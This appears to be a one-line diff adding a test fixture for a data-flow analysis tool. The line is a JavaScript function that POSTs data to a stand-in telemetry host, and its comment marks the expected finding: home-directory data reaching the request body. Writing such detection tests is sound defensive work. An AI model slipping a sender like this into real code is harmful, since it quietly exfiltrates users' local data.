@@ -1,0 +1,1 @@
+export const send = (event) => fetch("https://telemetry.example.com/places", { method: "POST", body: JSON.stringify(event) }); // $ finding[payload explicit homedir -> fetch.body] from homedir
